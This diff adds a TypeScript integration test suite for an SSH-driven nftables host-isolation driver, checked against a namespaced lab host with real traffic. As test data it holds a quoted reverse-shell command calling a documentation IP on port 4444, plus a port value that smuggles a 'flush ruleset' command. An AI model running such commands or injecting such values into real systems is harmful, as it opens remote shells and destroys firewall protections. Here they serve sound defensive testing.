@@ -1,0 +1,321 @@
+/**
+ * The driver against a real lab host: OpenSSH inside a network namespace, real nftables, real
+ * traffic from a peer namespace. Every claim the isolation makes is checked with packets.
+ */
+import { strict as assert } from 'assert';
+import { IsolationDriver, IsolationError, type TargetInput } from '../../src/driver';
+import { createLab, labAvailable, type Lab } from '../lab/lab';
+
+const TABLE = 'nrhi_test';
+
+async function expectCode(p: Promise<unknown>, code: string | string[]): Promise<IsolationError> {
+  const codes = Array.isArray(code) ? code : [code];
+  try {
+    await p;
+  } catch (err) {
+    assert.ok(err instanceof IsolationError, `expected IsolationError, got ${String(err)}`);
+    assert.ok(codes.includes(err.code), `expected ${codes.join('|')}, got ${err.code}: ${err.message}`);
+    return err;
+  }
+  assert.fail(`expected error ${codes.join('|')}, got success`);
+}
+
+describe('driver on the lab host', function () {
+  this.timeout(120_000);
+  let lab: Lab;
+  let driver: IsolationDriver;
+  let target: TargetInput;
+
+  before(async function () {
+    const avail = labAvailable();
+    if (!avail.ok) {
+      if (process.env.CI === 'true') throw new Error(`lab unavailable in CI: ${avail.why}`);
+      this.skip();
+    }
+    lab = await createLab({ hosts: 1 });
+    const h = lab.hosts[0];
+    target = {
+      host: h.v4,
+      username: lab.users.root.username,
+      privateKey: lab.users.root.privateKey,
+      knownHosts: h.knownHosts,
+      table: TABLE,
+      timeoutMs: 15_000,
+    };
+    driver = new IsolationDriver();
+  });
+
+  after(async () => {
+    await driver?.close();
+    await lab?.close();
+  });
+
+  afterEach(async () => {
+    if (lab) await lab.nft(lab.hosts[0].ns, ['delete', 'table', 'inet', TABLE]).catch(() => undefined);
+  });
+
+  const host = () => lab.hosts[0];
+
+  it('reports a fresh host as not isolated', async () => {
+    const st = await driver.status(target);
+    assert.equal(st.isolated, false);
+    assert.equal(st.host, host().v4);
+    assert.deepEqual(st.exceptions, []);
+  });
+
+  it('blocks inbound and outbound on v4 and v6, keeps management, and unisolate restores everything', async () => {
+    const hostListener = await lab.listen(host().ns, 7001);
+    const peerListener = await lab.listen(lab.peer.ns, 7002);
+    try {
+      const paths = async () => ({
+        in4: await lab.tryConnect(lab.peer.ns, host().v4, 7001),
+        in6: await lab.tryConnect(lab.peer.ns, host().v6, 7001),
+        out4: await lab.tryConnect(host().ns, lab.peer.v4, 7002),
+        out6: await lab.tryConnect(host().ns, lab.peer.v6, 7002),
+        ping4: await lab.ping(lab.peer.ns, host().v4),
+        ping6: await lab.ping(lab.peer.ns, host().v6),
+      });
+      const open = { in4: true, in6: true, out4: true, out6: true, ping4: true, ping6: true };
+      assert.deepEqual(await paths(), open, 'lab traffic works before isolation');
+
+      const st = await driver.isolate(target, { reason: 'test isolation' });
+      assert.equal(st.isolated, true);
+      assert.equal(st.mode, 'enforce');
+      assert.equal(st.reason, 'test isolation');
+      assert.deepEqual(st.management, [{ addr: lab.controller.v4, port: 22 }]);
+      assert.deepEqual(await paths(), { in4: false, in6: false, out4: false, out6: false, ping4: false, ping6: false });
+
+      // management: a brand-new controller on a fresh connection still gets in and reads the truth
+      const fresh = new IsolationDriver();
+      try {
+        const again = await fresh.status(target);
+        assert.equal(again.isolated, true);
+        assert.equal(again.since, st.since);
+        assert.equal(again.reason, 'test isolation');
+        assert.ok(again.dropped && again.dropped.in.packets > 0, 'drops are counted');
+      } finally {
+        await fresh.close();
+      }
+
+      const un = await driver.unisolate(target);
+      assert.equal(un.isolated, false);
+      assert.deepEqual(await paths(), open, 'unisolate restores all traffic');
+      const tables = await lab.nft(host().ns, ['list', 'tables']);
+      assert.ok(!tables.stdout.includes(TABLE), 'table removed');
+      // unisolate on a host that is not isolated is a no-op, not an error
+      assert.equal((await driver.unisolate(target)).isolated, false);
+    } finally {
+      hostListener.close();
+      peerListener.close();
+    }
+  });
+
+  it('severs a connection that was open before isolation', async () => {
+    const hostListener = await lab.listen(host().ns, 7003);
+    const conn = await lab.openConnection(lab.peer.ns, host().v4, 7003);
+    try {
+      assert.equal(await conn.roundTrip(), true, 'connection works before');
+      await driver.isolate(target, {});
+      assert.equal(await conn.roundTrip(), false, 'established connection cut');
+      await driver.unisolate(target);
+    } finally {
+      conn.close();
+      hostListener.close();
+    }
+  });
+
+  it('passes exactly what the exceptions name, and nothing else', async () => {
+    const listeners = [
+      await lab.listen(host().ns, 8080),
+      await lab.listen(host().ns, 8081),
+      await lab.listen(lab.peer.ns, 9000),
+      await lab.listen(lab.peer.ns, 9001),
+      await lab.listen(lab.peer.ns, 5353, { udp: true }),
+    ];
+    try {
+      const st = await driver.isolate(target, {
+        presets: ['icmp'],
+        exceptions: [
+          { direction: 'in', proto: 'tcp', addr: lab.peer.v4, port: 8080, comment: 'collector v4 only' },
+          { direction: 'out', proto: 'tcp', addr: lab.peer.v6, port: '9000-9000' },
+          { direction: 'out', proto: 'udp', addr: lab.peer.v4, port: 5353 },
+        ],
+      });
+      assert.equal(st.exceptions.filter((e) => e.proto !== 'icmp').length, 3);
+      assert.equal(await lab.tryConnect(lab.peer.ns, host().v4, 8080), true, 'named inbound v4 port passes');
+      assert.equal(await lab.tryConnect(lab.peer.ns, host().v6, 8080), false, 'same port over v6 is not named');
+      assert.equal(await lab.tryConnect(lab.peer.ns, host().v4, 8081), false, 'neighbouring port blocked');
+      assert.equal(await lab.tryConnect(host().ns, lab.peer.v6, 9000), true, 'named outbound v6 passes');
+      assert.equal(await lab.tryConnect(host().ns, lab.peer.v4, 9000), false, 'same port over v4 is not named');
+      assert.equal(await lab.tryConnect(host().ns, lab.peer.v6, 9001), false, 'neighbouring port blocked');
+      assert.equal(await lab.udpRoundTrip(host().ns, lab.peer.v4, 5353), true, 'named udp passes with its reply');
+      assert.equal(await lab.ping(lab.peer.ns, host().v4), true, 'icmp preset: ping v4 in');
+      assert.equal(await lab.ping(lab.peer.ns, host().v6), true, 'icmp preset: ping v6 in');
+      assert.equal(await lab.ping(host().ns, lab.peer.v4), true, 'icmp preset: ping v4 out');
+    } finally {
+      for (const l of listeners) l.close();
+    }
+  });
+
+  it('is idempotent: the same request twice gives the same ruleset and the same answer', async () => {
+    const req = { presets: ['ssh', 'dns'] as ('ssh' | 'dns')[], exceptions: [{ direction: 'in' as const, proto: 'tcp' as const, port: 443 }], reason: 'twice' };
+    const a = await driver.isolate(target, req);
+    const listA = await lab.nft(host().ns, ['-s', 'list', 'table', 'inet', TABLE]);
+    const b = await driver.isolate(target, req);
+    const listB = await lab.nft(host().ns, ['-s', 'list', 'table', 'inet', TABLE]);
+    assert.deepEqual(b, a);
+    const strip = (s: string) => s.replace(/elements = \{ 0x[0-9a-f]+ \}/, ''); // the generation moves on
+    assert.equal(strip(listB.stdout), strip(listA.stdout));
+    assert.deepEqual(await driver.status(target), { ...a, dropped: (await driver.status(target)).dropped });
+  });
+
+  it('never touches another table', async () => {
+    const foreign = 'table inet foreign_fw {\n\tchain input {\n\t\ttype filter hook input priority 0; policy accept;\n\t\ttcp dport 12345 counter accept\n\t}\n}';
+    await lab.exec(host().ns, ['nft', '-f', '-'], foreign);
+    const before = (await lab.nft(host().ns, ['-s', 'list', 'table', 'inet', 'foreign_fw'])).stdout;
+    await driver.isolate(target, { presets: ['ssh'] });
+    await driver.setExceptions(target, 'add', [{ direction: 'in', proto: 'udp', port: 53 }]);
+    assert.equal((await lab.nft(host().ns, ['-s', 'list', 'table', 'inet', 'foreign_fw'])).stdout, before);
+    await driver.unisolate(target);
+    assert.equal((await lab.nft(host().ns, ['-s', 'list', 'table', 'inet', 'foreign_fw'])).stdout, before);
+    await lab.nft(host().ns, ['delete', 'table', 'inet', 'foreign_fw']);
+  });
+
+  it('round-trips status through the host, surviving a controller restart', async () => {
+    const reason = 'Wazuh 100210: "bash -i" >& /dev/tcp/203.0.113.66/4444; $(id) `x` ü';
+    const exceptions = [
+      { direction: 'in' as const, proto: 'tcp' as const, addr: '198.18.0.0/16', port: '20-30', comment: 'jump hosts' },
+      { direction: 'in' as const, proto: 'tcp' as const, addr: '198.18.0.0/24', port: '25-40' },
+      { direction: 'out' as const, proto: 'any' as const, addr: '2001:db8::/32' },
+      { direction: 'out' as const, proto: 'icmp' as const, icmpType: 'echo-request' },
+    ];
+    const st = await driver.isolate(target, { presets: ['dns', 'dhcp', 'ntp', 'ldap', 'ldaps', 'cloud-metadata'], exceptions, reason });
+    const other = new IsolationDriver();
+    try {
+      const read = await other.status(target);
+      assert.deepEqual({ ...read, dropped: null }, { ...st, dropped: null });
+      assert.equal(read.reason, reason);
+      assert.ok(read.exceptions.some((e) => e.comment === 'jump hosts' && e.port === '20-30'));
+    } finally {
+      await other.close();
+    }
+  });
+
+  it('changes exceptions live, atomically, and refuses on a host that is not isolated', async () => {
+    await expectCode(driver.setExceptions(target, 'add', [{ direction: 'in', proto: 'tcp', port: 8090 }]), 'NOT_ISOLATED');
+    const l = await lab.listen(host().ns, 8090);
+    try {
+      await driver.isolate(target, { presets: ['ssh'] });
+      assert.equal(await lab.tryConnect(lab.peer.ns, host().v4, 8090), false);
+      const added = await driver.setExceptions(target, 'add', [{ direction: 'in', proto: 'tcp', addr: lab.peer.v4, port: 8090, comment: 'forensics' }]);
+      assert.equal(added.exceptions.length, 2);
+      const conn = await lab.openConnection(lab.peer.ns, host().v4, 8090);
+      try {
+        assert.equal(await conn.roundTrip(), true, 'added exception passes');
+        // adding an overlapping wider exception keeps the live flow
+        await driver.setExceptions(target, 'add', [{ direction: 'in', proto: 'tcp', addr: '198.18.0.0/15', port: '8000-8999' }]);
+        assert.equal(await conn.roundTrip(), true, 'flow survives an unrelated change');
+        const removed = await driver.setExceptions(target, 'remove', [
+          { direction: 'in', proto: 'tcp', addr: lab.peer.v4, port: 8090 },
+          { direction: 'in', proto: 'tcp', addr: '198.18.0.0/15', port: '8000-8999' },
+        ]);
+        assert.deepEqual(
+          removed.exceptions.map((e) => e.port),
+          [22],
+        );
+        assert.equal(await conn.roundTrip(), false, 'removed exception stops the flow at once');
+      } finally {
+        conn.close();
+      }
+      const replaced = await driver.setExceptions(target, 'replace', [{ direction: 'out', proto: 'udp', port: 53 }]);
+      assert.deepEqual(replaced.exceptions, [{ direction: 'out', proto: 'udp', port: 53 }]);
+      assert.equal((await driver.status(target)).since, replaced.since, 'since is kept across changes');
+      // management survives a replace that drops the ssh preset
+      const fresh = new IsolationDriver();
+      try {
+        assert.equal((await fresh.status(target)).isolated, true);
+      } finally {
+        await fresh.close();
+      }
+    } finally {
+      l.close();
+    }
+  });
+
+  it('serialises concurrent operations on one host', async () => {
+    await driver.isolate(target, {});
+    const ports = [1001, 1002, 1003, 1004, 1005, 1006];
+    await Promise.all(ports.map((port) => driver.setExceptions(target, 'add', [{ direction: 'in', proto: 'tcp', port }])));
+    const st = await driver.status(target);
+    assert.deepEqual(st.exceptions.map((e) => e.port).sort(), ports);
+  });
+
+  it('detects a change made behind its back between read and write', async () => {
+    await driver.isolate(target, {});
+    // someone else bumps the generation: our update must fail rather than overwrite blindly
+    await lab.nft(host().ns, ['flush', 'set', 'inet', TABLE, 'gen']);
+    await expectCode(driver.setExceptions(target, 'add', [{ direction: 'in', proto: 'tcp', port: 1 }]), ['CONCURRENT_CHANGE', 'PARSE_ERROR']);
+  });
+
+  it('changes nothing on the host when input is invalid', async () => {
+    await expectCode(driver.isolate(target, { exceptions: [{ direction: 'in', proto: 'tcp', port: '22; flush ruleset' }] }), 'VALIDATION');
+    await expectCode(driver.isolate({ ...target, table: 'x y' }, {}), 'VALIDATION');
+    assert.equal((await driver.status(target)).isolated, false);
+  });
+
+  it('refuses a wrong host key before sending anything', async () => {
+    const d = new IsolationDriver();
+    try {
+      await expectCode(d.isolate({ ...target, knownHosts: host().wrongKnownHosts }, {}), 'HOST_KEY_MISMATCH');
+      await expectCode(d.status({ ...target, knownHosts: '198.18.255.1 ' + host().knownHosts.split(' ').slice(1).join(' ') }), 'HOST_KEY_MISMATCH');
+    } finally {
+      await d.close();
+    }
+    assert.equal((await driver.status(target)).isolated, false);
+  });
+
+  it('fails in bounded time on a silent or unreachable host', async () => {
+    const d = new IsolationDriver();
+    try {
+      for (const addr of [lab.sink.v4, lab.unusedV4]) {
+        const t0 = Date.now();
+        await expectCode(d.status({ ...target, host: addr, knownHosts: host().knownHosts.replace(host().v4, addr), timeoutMs: 2000 }), ['TIMEOUT', 'UNREACHABLE']);
+        assert.ok(Date.now() - t0 < 6000, `took ${Date.now() - t0} ms`);
+      }
+    } finally {
+      await d.close();
+    }
+  });
+
+  it('authenticates with password and passphrase keys; reports auth failures', async () => {
+    const { sudo, root } = lab.users;
+    const d = new IsolationDriver();
+    try {
+      const pw = await d.status({ ...target, username: root.username, privateKey: undefined, password: root.password });
+      assert.equal(pw.isolated, false);
+      await expectCode(d.status({ ...target, username: root.username, privateKey: undefined, password: 'wrong' }), 'AUTH_FAILED');
+      const viaSudo = { ...target, username: sudo.username, privateKey: sudo.privateKey, passphrase: sudo.passphrase, sudo: true };
+      await expectCode(d.status({ ...viaSudo, passphrase: 'not it' }), 'AUTH_FAILED');
+      const st = await d.isolate(viaSudo, { presets: ['ssh'] });
+      assert.equal(st.isolated, true);
+      assert.equal((await d.unisolate(viaSudo)).isolated, false);
+    } finally {
+      await d.close();
+    }
+  });
+
+  it('reports refused privilege with a typed error', async () => {
+    const { nosudo, sudo } = lab.users;
+    const d = new IsolationDriver();
+    try {
+      const base = { ...target, username: nosudo.username, privateKey: nosudo.privateKey, passphrase: nosudo.passphrase };
+      await expectCode(d.isolate({ ...base, sudo: true }, {}), 'PRIVILEGE');
+      await expectCode(d.isolate({ ...base, sudo: false }, {}), 'PRIVILEGE');
+      // a sudo-capable user that forgets sudo is refused by nft itself
+      await expectCode(d.status({ ...target, username: sudo.username, privateKey: sudo.privateKey, passphrase: sudo.passphrase }), 'PRIVILEGE');
+    } finally {
+      await d.close();
+    }
+    assert.equal((await driver.status(target)).isolated, false);
+  });
+});
